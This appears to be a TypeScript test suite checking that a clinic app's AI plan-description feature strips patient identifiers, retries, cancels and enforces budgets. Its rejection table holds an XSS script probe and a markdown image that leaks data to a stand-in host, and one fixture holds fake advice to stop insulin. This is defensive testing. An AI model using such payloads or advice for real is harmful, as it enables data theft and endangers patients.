import { setTimeout as sleep } from 'node:timers/promises'
import { sql } from 'kysely'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { ai } from '#shared/domains/ai/api.ts'
import type { ActivityId, OrgId } from '#shared/kernel/ids.ts'
import { Org } from '#server/domains/orgs/index.ts'
import { keepJournal } from '#server/testing/a-journal.ts'
import { aClinic, aPerson } from '#server/testing/factories.ts'
import type { TestPerson } from '#server/testing/factories.ts'
import { openModelServer } from '#server/testing/model-server.ts'
import type { ModelServer, Reply } from '#server/testing/model-server.ts'
import { doQueued } from '#server/testing/queued-jobs.ts'
import { race } from '#server/testing/race.ts'
import { startTestServer, useTestServer } from '#server/testing/test-server.ts'
import type { TestServer } from '#server/testing/test-server.ts'
import { writeQueued } from './jobs.ts'

const FROZEN = { frozenAt: '2026-11-20T14:00:00Z' }
const base = useTestServer({ ROLE: 'web' }, FROZEN)
const WALK = '0190a000-0000-7000-8000-0000000000a2' as ActivityId
const GROUP = '0190a000-0000-7000-8000-0000000000a1'
const planOf = (label: string) => ({
  groups: [{ id: GROUP, label: 'Movement', order: 0 }],
  activities: [{ id: WALK, label, icon: 'walk', frequency: 'daily' as const, group: GROUP }],
  goals: [{ goal: 'More', target: 5, activityId: WALK }],
})
const GOOD = { description: 'A walking plan', narrative: 'Walk every day. Begin with ten minutes.' }
const says = (answer: object, more: object = {}): Reply => ({ text: JSON.stringify(answer), ...more })

let models: ModelServer
let server: TestServer
let logged = ''
let clinic: OrgId
let patient: TestPerson
let questions = 0
beforeAll(async () => {
  models = await openModelServer()
  server = await startTestServer(
    base.databaseUrl,
    { ROLE: 'web', AI_TIMEOUT_SECONDS: '3', AI_PRICE_IN: '10', AI_PRICE_OUT: '100', ...models.environment },
    { ...FROZEN, onLog: (line) => (logged += line) },
  )
  clinic = await aClinic(server)
})
afterAll(async () => {
  models.close()
  await server.running.stop()
})
beforeEach(async () => {
  models.asked.length = 0
  patient = await aPerson(server, {
    firstName: 'Zebulon',
    lastName: 'Quackenbush',
    memberships: [{ org: clinic, role: 'user' }],
  })
})

/** Asks something that was not asked before. */
const ask = (label = `Walk ${(questions += 1)}`) =>
  server.refused(ai.describeMine, { body: { plan: planOf(label) } }, patient.token)
async function outcome(...replies: Reply[]) {
  models.says(...replies)
  const { body } = await ask()
  const { requestId } = body as never as { requestId: never }
  await doQueued(server, writeQueued)
  return server.refused(ai.result, { params: { requestId } }, patient.token)
}
const uses = async () =>
  (
    await sql<{ tokens_in: number; tokens_out: number; cost: number; fault: string | null }>`
      select tokens_in, tokens_out, cost, fault from ai_uses where org_id = ${clinic} order by at, id`.execute(
      server.running.services.reader,
    )
  ).rows

describe('a model', () => {
  it('is asked by its protocol, with the shape of the answer, and its tokens and cost are kept without a word', async () => {
    const { status, body } = await outcome(says(GOOD, { tokens: [200, 30] }))
    expect([status, body]).toMatchObject([
      200,
      { by: 'model', model: 'stand-in', text: { task: 'description', ...GOOD } },
    ])
    expect(models.asked[0]).toMatchObject({
      model: 'stand-in',
      response_format: { type: 'json_schema', json_schema: { name: 'description' } },
      max_tokens: 1200,
    })
    expect((await uses()).at(-1)).toEqual({ tokens_in: 200, tokens_out: 30, cost: 200 * 10 + 30 * 100, fault: null })
    const { rows } = await sql<{
      told: string | null
    }>`select told from ai_requests where user_id = ${patient.id}`.execute(server.running.services.reader)
    expect(rows).toEqual([{ told: null }])
  })

  it('hears no name, address or number of anybody, and no id', async () => {
    await keepJournal(server, patient.id, { written: [{ day: '2026-11-19', mood: 3, done: { [WALK]: 1 } }] })
    models.says(says(GOOD))
    await ask(
      `Call Quackenbush at +1 (212) 555-0199 or zeb@example.test, 12 Elm Street, https://intranet.test/${questions}`,
    )
    await doQueued(server, writeQueued)
    const heard = models.heard()
    for (const word of [
      'Zebulon',
      'Quackenbush',
      '555',
      'zeb@',
      'Elm',
      'intranet',
      WALK,
      GROUP,
      patient.id,
      patient.email,
    ])
      expect(heard).not.toContain(word)
    expect(heard).toContain('Movement')
  })

  it('is asked again where it is busy or broken, after as long as it says', async () => {
    const busy: Reply = (response) => response.writeHead(429, { 'retry-after': '0' }).end('{}')
    const broken: Reply = (response) => response.writeHead(503, { 'retry-after': '0' }).end('{}')
    expect((await outcome(busy, broken, says(GOOD))).status).toBe(200)
    expect(models.asked).toHaveLength(3)
  }, 20_000)

  it('is followed nowhere, with the key and the question', async () => {
    const leads: Reply = (response) => response.writeHead(307, { location: '/v1/elsewhere' }).end()
    expect((await outcome(leads, says(GOOD))).body.error.code).toBe('ai_away')
    expect(models.asked).toHaveLength(1)
  })

  it.each<[name: string, code: string, reply: Reply]>([
    ['is away', 'ai_away', (response) => response.writeHead(401).end('{"error":{"message":"Walk is secret"}}')],
    ['is slow', 'ai_slow', (response) => void response.writeHead(200).write(' ')],
    ['answers no JSON', 'ai_malformed', { text: 'Sure! Here is your plan.' }],
    ['answers a page', 'ai_malformed', (response) => response.writeHead(200).end('<html>')],
    ['answers with half of it', 'ai_malformed', { text: '{"description":"A pl', finish: 'length' }],
    ['answers another shape', 'ai_malformed', says({ title: 'A plan' })],
    ['answers too much', 'ai_malformed', says({ ...GOOD, narrative: 'word '.repeat(2000) })],
    ['refuses', 'ai_refused', { text: '', finish: 'content_filter' }],
    ['answers with a script', 'ai_unsafe', says({ ...GOOD, narrative: 'Hi <script>alert(1)</script>' })],
    ['answers with a picture', 'ai_unsafe', says({ ...GOOD, narrative: '![x](https://evil.test/?q=data)' })],
    ['answers in another language', 'ai_unsafe', says({ description: '计划', narrative: '每天走路，很好。' })],
  ])(
    'that %s has its own word, and nothing is kept',
    async (_name, code, reply) => {
      logged = ''
      const { body } = await outcome(reply)
      expect(body.error.code).toBe(code)
      expect(logged).not.toMatch(/Walk|Movement|plan brings/)
      const { rows } = await sql`
      select text, told, reserved from ai_requests where user_id = ${patient.id}`.execute(
        server.running.services.reader,
      )
      expect(rows).toEqual([{ text: null, told: null, reserved: 0 }])
    },
    20_000,
  )

  it('says nothing of illness or medication: a sentence says whom to ask in its place', async () => {
    const narrative =
      'Walk every day. You probably have diabetes. Stop taking your insulin. Take 20 mg at night. Rest on Sunday.'
    const { body } = await outcome(says({ ...GOOD, narrative }))
    const { text } = body as never as { text: { narrative: string } }
    expect(text.narrative).toBe(
      'Walk every day. Rest on Sunday. Whether you are ill, and what to change about medication, is for your clinic to say: ask them first.',
    )
  })

  it('invents no figure', async () => {
    const { body } = await outcome(says({ ...GOOD, narrative: 'Walk every day. Burn 4,500 calories at once. Rest.' }))
    expect(body).toMatchObject({ text: { narrative: 'Walk every day. Rest.' } })
  })

  it('names what is not in the plan as new', async () => {
    await keepJournal(server, patient.id, {
      written: [{ day: '2026-11-19', mood: 3, done: { [WALK]: 1 } }],
      activities: [{ id: WALK, label: 'Walk' }],
    })
    models.says(
      says({
        narrative: 'Walks went well.',
        action: 'Try yoga.',
        activities: ['walk', 'Yoga', 'Rowing'],
        newActivities: ['Yoga', 'Walk'],
      }),
    )
    const { body } = await server.call(ai.reviewMine, {}, patient.token)
    await doQueued(server, writeQueued)
    const { body: result } = await server.call(ai.result, { params: { requestId: body.requestId } }, patient.token)
    expect(result.text).toEqual({
      task: 'review',
      narrative: 'Walks went well.',
      action: 'Try yoga. New, not in the plan so far: Yoga and Rowing.',
      newActivities: ['Yoga', 'Rowing'],
    })
  })

  it('is stopped as soon as nobody waits for it', async () => {
    let isClosed = false
    models.says((response) => {
      response.on('close', () => (isClosed = true))
      response.writeHead(200).write(' ')
    })
    const { requestId } = (await ask()).body as never as { requestId: never }
    const work = doQueued(server, writeQueued)
    while (models.asked.length === 0) await sleep(20)
    await server.call(ai.remove, { params: { requestId } }, patient.token)
    await work
    expect(isClosed).toBe(true)
    const { body } = await server.refused(ai.result, { params: { requestId } }, patient.token)
    expect(body.error.code).toBe('ai_cancelled')
  }, 20_000)

  it('is not asked past the budget of the org, also by many at once', async () => {
    const { orm, reader } = server.running.services
    await sql`delete from ai_uses`.execute(reader)
    const em = orm.em.fork()
    const org = await em.findOneOrFail(Org, { id: clinic })
    org.settings = { aiBudgetCents: 30 }
    await em.flush()
    models.says(says(GOOD, { tokens: [1000, 500] }))
    // One is at most some 13 cents, as it is set aside until it is known.
    const seen = await race(4, async () => String((await ask()).status))
    expect(seen).toEqual({ 202: 2, 409: 2 })
    expect((await ask()).body.error.code).toBe('ai_budget_spent')
    await doQueued(server, writeQueued)
    // It was 6 cents each: what was set aside is free again.
    const admin = await aPerson(server, { memberships: [{ org: clinic, role: 'org-admin' }] })
    const { body } = await server.call(ai.use, { params: { orgId: clinic } }, admin.token)
    expect(body).toMatchObject({ by: 'model', model: 'stand-in', budgetCents: 30, spentCents: 12 })
    expect(body.tasks).toEqual([{ task: 'description', written: 2, failed: 0, thumbsUp: 0, thumbsDown: 0 }])
    expect((await ask()).status).toBe(202)
    // Another clinic has a budget of its own, and does not see this one's.
    const neighbour = await aPerson(server, { memberships: [{ org: await aClinic(server), role: 'org-admin' }] })
    expect((await server.refused(ai.use, { params: { orgId: clinic } }, neighbour.token)).status).toBe(404)
  })
})
